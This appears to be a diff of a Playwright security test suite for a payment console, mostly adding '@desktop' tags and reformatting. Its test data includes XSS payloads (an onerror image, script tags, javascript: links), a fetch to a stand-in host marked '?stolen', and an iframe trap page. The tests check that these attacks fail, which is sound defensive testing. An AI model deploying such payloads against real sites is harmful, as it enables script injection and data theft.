@@ -5,7 +5,6 @@ import { test } from './customer';
 import { Authenticator, expect, problemsOf } from './test';
 
 test.describe.configure({ timeout: 120_000 });
-test.skip(({ viewport }) => viewport?.width === 390, 'an attack does not depend on the width of the window');
 
 const ELSEWHERE = 'https://elsewhere.example';
 
@@ -21,7 +20,12 @@ async function prepare(page: Page, to: string, amount: string, memo: string): Pr
 }
 const sign = (page: Page) => page.getByRole('button', { name: 'Sign and send' });
 
-test('a name and a memo that are markup stay text', async ({ page, enter, pay, payee }) => {
+test('a name and a memo that are markup stay text', { tag: '@desktop' }, async ({
+  page,
+  enter,
+  pay,
+  payee,
+}) => {
   const name = '<img src=x onerror="globalThis.hit=1">';
   const memo = '<script>globalThis.hit=1</script><a href="javascript:globalThis.hit=1">look</a>';
   const me = await enter('20', name);
@@ -34,7 +38,9 @@ test('a name and a memo that are markup stay text', async ({ page, enter, pay, p
   expect(await page.locator('main img, main script, main a[href^="javascript"]').count()).toBe(0);
 });
 
-test('what is injected does not run, and nothing is sent elsewhere', async ({ page }) => {
+test('what is injected does not run, and nothing is sent elsewhere', { tag: '@desktop' }, async ({
+  page,
+}) => {
   const left: string[] = [];
   page.on('request', (request) => {
     if (request.url().startsWith(ELSEWHERE)) left.push(request.url());
@@ -62,8 +68,9 @@ test('what is injected does not run, and nothing is sent elsewhere', async ({ pa
       'code as text': () => setTimeout(code),
       'a function of text': () => Reflect.construct(Function, [code])(),
       'another policy of Trusted Types': () =>
-        (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } })
-          .trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
+        (
+          globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
+        ).trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
       'a request': () => fetch(`${elsewhere}/?stolen`),
       'a worker of text': () =>
         new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })), { type: 'module' }),
@@ -108,7 +115,10 @@ test('what is injected does not run, and nothing is sent elsewhere', async ({ pa
   problems.length = 0;
 });
 
-test('no other page has the console in a frame, nor holds its window', async ({ page, bank }) => {
+test('no other page has the console in a frame, nor holds its window', { tag: '@desktop' }, async ({
+  page,
+  bank,
+}) => {
   const trap = `<!doctype html><title>a prize</title><iframe src="${bank.origin}/transfer"></iframe>`;
   await page.route('http://trap.localhost/**', (route) =>
     route.fulfill({ body: trap, contentType: 'text/html' }),
@@ -132,11 +142,9 @@ test('no other page has the console in a frame, nor holds its window', async ({ 
   problemsOf(page).length = 0;
 });
 
-test('a receipt that was altered on its way, or is shown altered later, proves nothing', async ({
-  page,
-  enter,
-  payee,
-}) => {
+test('a receipt that was altered on its way, or is shown altered later, proves nothing', {
+  tag: '@desktop',
+}, async ({ page, enter, payee }) => {
   const altered = (leaf: string) => `${leaf.slice(0, 60)}${leaf[60] === 'A' ? 'B' : 'A'}${leaf.slice(61)}`;
   type Shown = { receipt: { leaf: string; code: string } };
   await enter('100');
@@ -176,11 +184,9 @@ test('a receipt that was altered on its way, or is shown altered later, proves n
   }
 });
 
-test('keys locked by a passkey are not to be had by a script, and sign nothing without their person', async ({
-  page,
-  enter,
-  payee,
-}) => {
+test('keys locked by a passkey are not to be had by a script, and sign nothing without their person', {
+  tag: '@desktop',
+}, async ({ page, enter, payee }) => {
   const authenticator = await Authenticator.plugInto(page);
   await enter('50');
   const { keys, tier, out, opened } = await page.evaluate(async () => {
@@ -245,12 +251,9 @@ test('keys locked by a passkey are not to be had by a script, and sign nothing w
   await expect(page.getByRole('heading', { name: 'Paid' })).toBeVisible();
 });
 
-test('a request that was seen is good for nothing again, and a session leaves nothing lying about', async ({
-  page,
-  enter,
-  bank,
-  request,
-}) => {
+test('a request that was seen is good for nothing again, and a session leaves nothing lying about', {
+  tag: '@desktop',
+}, async ({ page, enter, bank, request }) => {
   await enter('10');
   const seen = page.waitForRequest(
     (asked) => asked.method() === 'GET' && new URL(asked.url()).pathname === '/api/accounts',
@@ -303,7 +306,9 @@ test('a request that was seen is good for nothing again, and a session leaves no
   }
 });
 
-test('another bank at the address of the one that this browser knows is not believed', async ({ page }) => {
+test('another bank at the address of the one that this browser knows is not believed', {
+  tag: '@desktop',
+}, async ({ page }) => {
   await page.goto('/login');
   await expect(page.getByText('This browser has no keys yet')).toBeVisible();
   const fixture = new URL('../fixtures/protocol.json', import.meta.url);
